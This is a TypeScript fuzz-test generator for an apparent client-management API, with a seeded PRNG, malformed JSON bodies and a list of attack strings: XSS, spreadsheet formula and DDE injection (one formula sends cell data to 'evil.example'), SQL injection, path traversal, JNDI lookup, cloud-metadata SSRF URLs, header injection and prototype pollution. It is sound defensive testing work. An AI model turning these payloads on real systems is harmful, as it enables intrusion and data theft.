/**
 * A deterministic generator of hostile inputs for the fuzz tests: a seeded PRNG, strings that
 * break naive code (markup, spreadsheet formulas, lone surrogates, direction overrides, NUL, huge
 * lengths), JSON values of every shape, and raw bodies JSON.stringify could never produce
 * (prototype keys, invalid UTF-8, deep nesting, truncation). The same seed gives the same inputs,
 * so a failure names its case and reproduces.
 */

/** mulberry32: small, fast, and good enough to spread test cases; not for anything secret. */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export class Gen {
  private readonly next: () => number;

  constructor(seed: number) {
    this.next = seededRandom(seed);
  }

  /** An integer in [0, n). */
  int(n: number): number {
    return Math.floor(this.next() * n);
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  pick<T>(items: readonly T[]): T {
    const item = items[this.int(items.length)];
    if (item === undefined) throw new Error('pick from an empty list');
    return item;
  }

  /** A string from the hostile pieces below, glued with random characters. */
  string(maxPieces = 4): string {
    const parts: string[] = [];
    const n = 1 + this.int(maxPieces);
    for (let i = 0; i < n; i++) {
      switch (this.int(5)) {
        case 0:
          parts.push(this.pick(hostileStrings));
          break;
        case 1:
          parts.push(this.randomChars(1 + this.int(12)));
          break;
        case 2:
          parts.push(String.fromCharCode(this.int(0x10000)));
          break;
        case 3:
          parts.push(this.pick(hostileStrings).repeat(1 + this.int(50)));
          break;
        default:
          parts.push(this.pick(commonWords));
      }
    }
    if (this.chance(0.02)) parts.push('x'.repeat(70_000 + this.int(10_000)));
    return parts.join(this.pick(['', ' ', '/', '\u0000', '\u202e']));
  }

  randomChars(length: number): string {
    let s = '';
    for (let i = 0; i < length; i++) s += String.fromCharCode(this.int(0x10000));
    return s;
  }

  /** Any JSON-ish value, nested up to `depth`. */
  value(depth = 3): unknown {
    switch (this.int(depth > 0 ? 11 : 8)) {
      case 0:
        return null;
      case 1:
        return this.chance(0.5);
      case 2:
        return this.pick(hostileNumbers);
      case 3:
        return String(this.pick(hostileNumbers));
      case 4:
      case 5:
      case 6:
        return this.string();
      case 7:
        return this.pick(['', ' ', '0', 'true', 'null', '[]', '{}', 'undefined', 'NaN']);
      case 8:
        return Array.from({ length: this.int(5) }, () => this.value(depth - 1));
      default: {
        const obj: Record<string, unknown> = {};
        const n = this.int(5);
        for (let i = 0; i < n; i++) obj[this.key()] = this.value(depth - 1);
        return obj;
      }
    }
  }

  /** A key: a real field name of the API, or something hostile. */
  key(): string {
    return this.chance(0.6) ? this.pick(apiFieldNames) : this.string(2).slice(0, 200);
  }
}

export const hostileStrings: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)',
  '-2+3',
  '@SUM(A1)',
  '\ud800',
  '\udfff',
  '\ud83d',
  '\u202e\u202dgnp.exe',
  '\u200b\u200c\u200d\ufeff',
  '\u0000',
  '\u0000\u0001\u001f\u007f',
  '%00',
  '%',
  '%%2F',
  '%E0%A4%A',
  '../../../../etc/passwd',
  '..%2F..%2F',
  '\\\\server\\share',
  '${jndi:ldap://x}',
  '{{7*7}}',
  "'; DROP TABLE clients; --",
  '$where',
  '__proto__',
  'constructor',
  'prototype',
  'http://169.254.169.254/latest/meta-data/',
  'http://127.0.0.1:1/',
  'https://businesscentral.dynamics.com.evil.example/t/production',
  'https://user:pass@evil.example/',
  'file:///etc/passwd',
  'data:text/html,<h1>x</h1>',
  '\r\nSet-Cookie: x=1',
  'Ω≈ç√∫˜µ≤≥÷',
  '𝕳𝖊𝖑𝖑𝖔',
  'مرحبا',
  '🔥'.repeat(10),
  ' '.repeat(300),
  'a'.repeat(5_000),
];

export const hostileNumbers: readonly number[] = [
  0,
  -0,
  -1,
  1.5,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 2,
  Number.MIN_SAFE_INTEGER,
  2 ** 31,
  -(2 ** 31),
  0.1 + 0.2,
  5e-324,
];

const commonWords: readonly string[] = [
  'all',
  'client',
  'companies',
  'monthly',
  'quarterly',
  'yearly',
  'asc',
  'desc',
  'overdue',
  'status',
  'taxesDue',
  'clientName',
];

export const apiFieldNames: readonly string[] = [
  'name',
  'url',
  'contact',
  'notes',
  'taxSettings',
  'frequency',
  'dueDaysAfterPeriodEnd',
  'appCredentials',
  'appClientId',
  'clientSecret',
  'link',
  'scope',
  'kind',
  'clientId',
  'companyId',
  'companies',
  'columns',
  'text',
  'filters',
  'sort',
  'column',
  'direction',
  'hasOverdueInvoices',
  'refreshFailed',
];

/** Raw bodies: what a hostile client sends byte for byte. */
export function rawBody(g: Gen, template: unknown): string | Buffer {
  const valid = JSON.stringify(template);
  switch (g.int(12)) {
    case 0:
      return valid.slice(0, g.int(valid.length));
    case 1: {
      const key = g.pick(['__proto__', 'constructor', 'prototype']);
      const inner = g.chance(0.5) ? '{"polluted":"yes"}' : '{"prototype":{"polluted":"yes"}}';
      return g.chance(0.5) ? `{"${key}":${inner}}` : valid.replace(/^\{/, `{"${key}":${inner},`);
    }
    case 2: {
      const key = g.pick(['__proto__', 'constructor', 'prototype']);
      const depth = 1 + g.int(20);
      return `${'{"a":'.repeat(depth)}{"${key}":{"polluted":"yes"}}${'}'.repeat(depth)}`;
    }
    case 3: {
      const depth = 1_000 + g.int(30_000);
      return g.chance(0.5)
        ? `${'['.repeat(depth)}${']'.repeat(depth)}`
        : `${'{"a":'.repeat(depth / 5)}1${'}'.repeat(depth / 5)}`;
    }
    case 4:
      return Buffer.concat([
        Buffer.from(valid.slice(0, 5)),
        Buffer.from(g.pick([[0xff, 0xfe], [0xc0, 0x80], [0xed, 0xa0, 0x80], [0x80], [0xf8, 0x88]])),
        Buffer.from(valid.slice(5)),
      ]);
    case 5:
      return g.pick(['', ' ', 'null', 'true', '0', '"x"', '[]', '{}', 'NaN', '{"a":1}{"a":2}']);
    case 6:
      return `\ufeff${valid}`;
    case 7:
      return valid.replace(/"/g, "'");
    case 8:
      return `{"name":"${'\\ud800'.repeat(1 + g.int(5))}","url":"\\u0000"}`;
    case 9:
      return `{"name":"x","name":"y","url":1e999}`;
    default:
      return JSON.stringify(g.value(4));
  }
}

/** A copy of `template` with one field, somewhere inside, replaced by a hostile value. */
export function mutate(g: Gen, template: unknown): unknown {
  if (typeof template !== 'object' || template === null || g.chance(0.15)) return g.value();
  if (Array.isArray(template)) {
    const copy: unknown[] = [...(template as unknown[])];
    if (copy.length === 0 || g.chance(0.2)) copy.push(g.value());
    else {
      const i = g.int(copy.length);
      copy[i] = mutate(g, copy[i]);
    }
    return copy;
  }
  const copy: Record<string, unknown> = { ...(template as Record<string, unknown>) };
  const keys = Object.keys(copy);
  switch (g.int(4)) {
    case 0:
      copy[g.key()] = g.value();
      break;
    case 1: {
      const k = keys.length > 0 ? g.pick(keys) : g.key();
      delete copy[k];
      break;
    }
    default: {
      const k = keys.length > 0 ? g.pick(keys) : g.key();
      copy[k] = mutate(g, copy[k]);
    }
  }
  return copy;
}

/** Percent-encoded random bytes, valid UTF-8 or not: a path segment or query value. */
export function encodedJunk(g: Gen): string {
  if (g.chance(0.4)) {
    return Buffer.from(g.string(2).slice(0, 300), 'utf8').toString('hex').replace(/(..)/g, '%$1');
  }
  if (g.chance(0.3))
    return g.pick(['%', '%zz', '%E0%A4%A', '%C0%80', '%ED%A0%80', '%00', '..', '%2e%2e']);
  const bytes = Array.from({ length: 1 + g.int(30) }, () => g.int(256));
  return bytes.map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
}
